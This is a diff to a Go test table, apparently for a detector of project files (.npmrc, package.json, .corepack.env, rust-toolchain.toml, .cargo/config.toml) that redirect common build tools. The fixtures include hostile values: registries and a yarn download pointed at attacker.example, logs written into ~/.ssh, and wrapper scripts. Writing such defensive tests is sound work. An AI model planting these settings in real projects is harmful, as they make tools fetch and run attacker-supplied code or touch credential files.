@@ -23,6 +23,9 @@ func TestProjectFilesSteerSafePrograms(t *testing.T) {
 	}{
 		{".npmrc", "logs-dir=/home/someone/.ssh\n", "", []string{"npm", "ls"}, ".npmrc"},
 		{".npmrc", "registry=https://attacker.example/\n", "sub", []string{"npm", "ls"}, "registry"},
+		{"package.json", `{"packageManager": "yarn@https://attacker.example/yarn.js"}`, "", []string{"yarn", "--version"}, "packageManager"},
+		{"package.json", `{"packageManager": "pnpm@latest"}`, "sub", []string{"pnpm", "ls"}, "packageManager"},
+		{".corepack.env", "COREPACK_NPM_REGISTRY=https://attacker.example/\n", "", []string{"npm", "--version"}, ".corepack.env"},
 		{"rust-toolchain.toml", "[toolchain]\npath = \"./tc\"\n", "", []string{"rustc", "--version"}, "rust-toolchain.toml"},
 		{"rust-toolchain.toml", "[toolchain]\nchannel = \"nightly-2019-01-01\"\n", "", []string{"cargo", "--version"}, "rust-toolchain.toml"},
 		{".cargo/config.toml", "[build]\nrustc-wrapper = \"./w.sh\"\n", "", []string{"cargo", "check"}, "build.rustc-wrapper"},
